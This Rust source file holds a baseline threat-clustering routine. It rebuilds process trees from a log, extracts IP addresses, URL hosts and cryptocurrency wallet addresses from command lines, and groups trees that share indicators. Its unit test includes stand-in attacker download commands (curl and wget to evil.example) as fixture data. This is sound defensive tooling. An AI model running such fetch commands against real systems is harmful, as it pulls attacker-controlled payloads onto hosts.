//! a plain process log → what a short script of an analyst would claim of it: the peer that the findings stand beside.
//!
//! The latest earlier start of the parent's pid is the parent; addresses, hosts of URLs and wallets are cut out by three
//! expressions; trees that share one are one component, unless more than half of the hosts show it; a component of more
//! than one tree is a gang. Nothing of the product's own is used here: neither its reading nor its extraction nor its
//! labels. Deliberately absent: anything that would make it better.

use std::borrow::Cow;
use std::collections::{BTreeMap, HashMap};
use std::fs::File;
use std::io::{self, BufRead, BufReader};
use std::path::Path;

use regex::Regex;
use serde::Deserialize;

use super::claims::{Claims, Link, Links};
use super::truth::{Id, id};

#[derive(Deserialize)]
struct Line<'a> {
    #[serde(borrow)]
    id: Cow<'a, str>,
    #[serde(borrow)]
    host: Cow<'a, str>,
    #[serde(borrow)]
    cmd_line: Cow<'a, str>,
    pid: u32,
    ppid: u32,
}

struct Expressions {
    address: Regex,
    url: Regex,
    wallet: Regex,
    url_host: Regex,
}

impl Expressions {
    fn new() -> Result<Self, regex::Error> {
        Ok(Self {
            address: Regex::new(r"\b(?:[0-9]{1,3}\.){3}[0-9]{1,3}\b")?,
            url: Regex::new(r#"(?:https?|ftp)://[^\s'"|;)<>]+"#)?,
            wallet: Regex::new(r"\b4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}\b")?,
            url_host: Regex::new(r#"://(?:[^/@\s]*@)?([^/:\s'"|;)]+)"#)?,
        })
    }

    fn all<'t>(&self, text: &'t str) -> Vec<&'t str> {
        let mut found: Vec<&str> = self.address.find_iter(text).map(|it| it.as_str()).collect();
        for url in self.url.find_iter(text) {
            found.extend(self.url_host.captures(url.as_str()).and_then(|it| it.get(1)).map(|it| it.as_str()));
        }
        found.extend(self.wallet.find_iter(text).map(|it| it.as_str()));
        found.retain(|it| !["10.", "127.", "192.168."].iter().any(|own| it.starts_with(own)));
        found
    }
}

/// Numbers for names, in the order in which they come.
#[derive(Default)]
struct Numbers(HashMap<Box<str>, u32>);

impl Numbers {
    fn of(&mut self, name: &str) -> u32 {
        if let Some(number) = self.0.get(name) {
            return *number;
        }
        let next = self.0.len() as u32;
        self.0.insert(name.into(), next);
        next
    }
}

pub(crate) fn claims(log: &Path) -> io::Result<Claims> {
    let file = File::open(log).map_err(|error| io::Error::other(format!("{}: {error}", log.display())))?;
    let lines = BufReader::with_capacity(1 << 20, file);
    let expressions = Expressions::new().map_err(io::Error::other)?;
    let (mut hosts, mut indicators) = (Numbers::default(), Numbers::default());
    let mut last: HashMap<(u32, u32), u32> = HashMap::new();
    let (mut ids, mut roots): (Vec<Id>, Vec<u32>) = (Vec::new(), Vec::new());
    let mut links = Vec::new();
    // Indicator, tree, host.
    let mut mentions: Vec<(u32, u32, u32)> = Vec::new();
    for line in lines.split(b'\n') {
        let line = line?;
        let Ok(event) = serde_json::from_slice::<Line<'_>>(&line) else { continue };
        let at = u32::try_from(ids.len()).map_err(|_| io::Error::other("more than four billion events"))?;
        let host = hosts.of(&event.host);
        let parent = last.get(&(host, event.ppid)).copied();
        last.insert((host, event.pid), at);
        let own = id(event.id.as_bytes());
        let root = parent.map_or(at, |it| roots[it as usize]);
        let up = parent.map(|it| ids[it as usize]);
        links.push((own, Link { up, is_parent: up.is_some(), how: u8::from(up.is_none()), status: 2 }));
        ids.push(own);
        roots.push(root);
        for found in expressions.all(&event.cmd_line) {
            mentions.push((indicators.of(found), root, host));
        }
    }
    mentions.sort_unstable();
    mentions.dedup();
    let mut trees: Vec<u32> = (0..ids.len() as u32).collect();
    for same in mentions.chunk_by(|a, b| a.0 == b.0) {
        let mut on: Vec<u32> = same.iter().map(|it| it.2).collect();
        on.sort_unstable();
        on.dedup();
        if on.len() * 2 > hosts.0.len() {
            continue;
        }
        for it in same {
            let (a, b) = (top(&mut trees, it.1), top(&mut trees, same[0].1));
            trees[a.max(b) as usize] = a.min(b);
        }
    }
    let mut sizes: BTreeMap<u32, u32> = BTreeMap::new();
    for (_, root) in (0u32..).zip(&roots).filter(|(at, root)| at == *root) {
        *sizes.entry(top(&mut trees, *root)).or_default() += 1;
    }
    sizes.retain(|_, trees| *trees > 1);
    let numbers: BTreeMap<u32, u32> = sizes.keys().copied().zip(0u32..).collect();
    let mut claims = Claims {
        gangs: numbers.values().map(|it| format!("component {it}").into()).collect(),
        links: Some(Links::new(links, ["pid", "none", ""].map(Into::into).to_vec())),
        ..Claims::default()
    };
    for (own, root) in ids.iter().zip(&roots) {
        if let Some(number) = numbers.get(&top(&mut trees, *root)) {
            claims.members.insert(*own, *number);
        }
    }
    Ok(claims)
}

/// The tree that stands for the component.
fn top(trees: &mut [u32], mut at: u32) -> u32 {
    while trees[at as usize] != at {
        let above = trees[trees[at as usize] as usize];
        trees[at as usize] = above;
        at = above;
    }
    at
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn trees_that_share_an_indicator_are_one_component() {
        let line = |id: &str, host: &str, pid: u32, ppid: u32, cmd: &str| {
            format!("{{\"id\":\"{id}\",\"host\":\"{host}\",\"pid\":{pid},\"ppid\":{ppid},\"cmd_line\":\"{cmd}\"}}\n")
        };
        let mut text = line("a", "h1", 10, 1, "sh -c x") + &line("b", "h1", 11, 10, "curl http://evil.example:80/x");
        text += &line("c", "h2", 20, 1, "wget -q ftp://u@evil.example/y");
        text += &line("d", "h2", 11, 1, "ping 10.0.0.1");
        text += "not an event\n";
        for n in 3..6 {
            text += &line(&format!("e{n}"), &format!("h{n}"), 11, 1, "curl https://192.0.2.7/ 10.0.0.1");
        }
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("log"), text).unwrap();
        let claims = claims(&dir.path().join("log")).unwrap();
        let gang = |it: &str| claims.members.get(&id(it.as_bytes())).copied();
        // 192.0.2.7 is on three hosts of five, and dropped.
        assert_eq!((gang("a"), gang("b"), gang("c"), gang("d"), gang("e3")), (Some(0), Some(0), Some(0), None, None));
        let links = claims.links.as_ref().unwrap();
        assert_eq!(links.get(id(b"b")).unwrap().up, Some(id(b"a")));
        assert_eq!(links.get(id(b"d")).unwrap().up, None);
    }
}
